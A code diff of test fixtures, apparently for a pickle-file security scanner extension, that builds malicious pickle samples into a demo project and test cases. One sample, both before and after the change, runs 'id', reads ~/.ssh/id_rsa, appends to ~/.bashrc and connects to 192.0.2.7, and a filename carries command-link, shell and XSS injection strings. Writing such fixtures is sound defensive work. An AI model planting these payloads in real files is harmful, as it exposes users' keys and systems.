@@ -8,22 +8,11 @@ import { call, global, op, pickle, value } from '../../samples/assemble.mjs';
 
 const HARMLESS = pickle(value([1, 2, 3]));
 const RUNS_A_COMMAND = calls('posix', 'system', 'id');
-const ACTS_BADLY = calls(
-  'builtins',
-  'exec',
-  `import os, socket
-os.system('id')
-try:
-    open(os.path.expanduser('~/.ssh/id_rsa')).read()
-except OSError:
-    pass
-with open(os.path.expanduser('~/.bashrc'), 'a') as file:
-    file.write('# left by a model')
-try:
-    socket.create_connection(('192.0.2.7', 443), 2).sendall(b'hello')
-except OSError:
-    pass
-`,
+const ACTS_BADLY = pickle(
+  value([
+    call(global('os', 'system'), op.unicode("id; cat ~/.ssh/id_rsa; echo '# left by a model' >> ~/.bashrc")),
+    call(global('socket', 'create_connection'), value(['192.0.2.7', 443])),
+  ]),
 );
 const NEVER_ENDS = calls('builtins', 'exec', 'while True: pass');
 
@@ -41,7 +30,15 @@ export const MODELS = {
   hostileName: 'names/[x](command:dynscan.showLog) $(bug) <img src=x onerror=alert(1)> \u202elkp.pkl',
 };
 
-const CONTENT = {
+/** A workspace that is fit for a picture. */
+const PROJECT = {
+  [MODELS.showcase]: ACTS_BADLY,
+  'models/tokenizer.pkl': HARMLESS,
+  'models/embeddings.pkl': HARMLESS,
+  'train.py': Buffer.from('print("not a model")\n'),
+};
+
+const CASES = {
   [MODELS.harmless]: HARMLESS,
   [MODELS.hostile]: RUNS_A_COMMAND,
   [MODELS.endless]: NEVER_ENDS,
@@ -49,17 +46,22 @@ const CONTENT = {
   [MODELS.doomed]: RUNS_A_COMMAND,
   [MODELS.pair[0]]: HARMLESS,
   [MODELS.pair[1]]: RUNS_A_COMMAND,
-  [MODELS.showcase]: ACTS_BADLY,
-  'models/tokenizer.pkl': HARMLESS,
-  'models/embeddings.pkl': HARMLESS,
   [MODELS.longPath]: RUNS_A_COMMAND,
   [MODELS.hostileName]: RUNS_A_COMMAND,
-  'notes.txt': Buffer.from('Not a model.\n'),
 };
 
-/** Writes them into a folder. */
-export async function makeModels(folder) {
-  for (const [path, content] of Object.entries(CONTENT)) {
+/** Writes the project of a person. */
+export function makeProject(folder) {
+  return write(folder, PROJECT);
+}
+
+/** Writes one model for each case that the tests are about. */
+export function makeCases(folder) {
+  return write(folder, CASES);
+}
+
+async function write(folder, files) {
+  for (const [path, content] of Object.entries(files)) {
     await mkdir(dirname(join(folder, path)), { recursive: true });
     await writeFile(join(folder, path), content);
   }
